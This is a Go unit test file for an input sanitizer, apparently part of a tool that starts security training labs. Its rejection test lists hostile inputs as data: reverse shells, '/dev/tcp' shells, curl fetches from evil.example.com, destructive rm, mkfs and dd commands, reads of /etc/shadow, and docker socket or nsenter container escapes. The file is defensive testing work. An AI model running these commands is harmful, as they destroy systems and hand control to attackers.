package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSanitizeAcceptsLabCommands(t *testing.T) {
	s := NewSanitizer(nil)

	tests := []struct {
		name    string
		input   string
		cleaned string
	}{
		{"plain lab type", "dvwa", "dvwa"},
		{"lab type with verb", "start dvwa", "start dvwa"},
		{"hyphenated lab type", "juice-shop", "juice-shop"},
		{"surrounding whitespace trimmed", "  metasploitable  ", "metasploitable"},
		{"challenge id", "web-sqli-01", "web-sqli-01"},
		{"flag value", "flag{s0me_v4lue}", "flag{s0me_v4lue}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := s.Sanitize(tt.input)
			assert.True(t, res.Valid)
			assert.Equal(t, tt.cleaned, res.Cleaned)
		})
	}
}

func TestSanitizeRejectsHostileInput(t *testing.T) {
	s := NewSanitizer(nil)

	tests := []struct {
		name  string
		input string
	}{
		{"empty", ""},
		{"whitespace only", "   "},
		{"command chaining semicolon", "dvwa; rm -rf /"},
		{"command chaining and", "dvwa && cat /etc/hosts"},
		{"command substitution dollar", "$(curl evil.example.com)"},
		{"command substitution backticks", "`id`"},
		{"path traversal", "../../etc/passwd"},
		{"sensitive file", "cat /etc/shadow"},
		{"docker cli", "docker ps -a"},
		{"docker socket", "/var/run/docker.sock"},
		{"namespace escape", "nsenter -t 1 -m sh"},
		{"chroot", "chroot /host"},
		{"privilege escalation", "sudo su -"},
		{"destructive rm", "rm -rf /var"},
		{"mkfs", "mkfs.ext4 /dev/sda1"},
		{"dd to device", "dd if=/dev/zero of=/dev/sda"},
		{"reverse shell nc", "nc -e /bin/sh 1.2.3.4 4444"},
		{"dev tcp shell", "bash >/dev/tcp/1.2.3.4/4444"},
		{"interactive bash", "bash -i"},
		{"remote fetch curl", "curl evil.example.com/payload"},
		{"remote fetch url", "https://evil.example.com/payload"},
		{"code execution", "eval something"},
		{"uppercase evasion", "SUDO SU"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := s.Sanitize(tt.input)
			assert.False(t, res.Valid, "input %q must be rejected", tt.input)
			assert.Empty(t, res.Cleaned)
			assert.NotEmpty(t, res.Reason)
		})
	}
}

func TestSanitizeRejectionReasonIsGeneric(t *testing.T) {
	s := NewSanitizer(nil)
	res := s.Sanitize("dvwa; rm -rf /")
	assert.False(t, res.Valid)
	// The reason must not echo the hostile payload back.
	assert.NotContains(t, res.Reason, "rm")
	assert.Equal(t, "Invalid input detected", res.Reason)
}
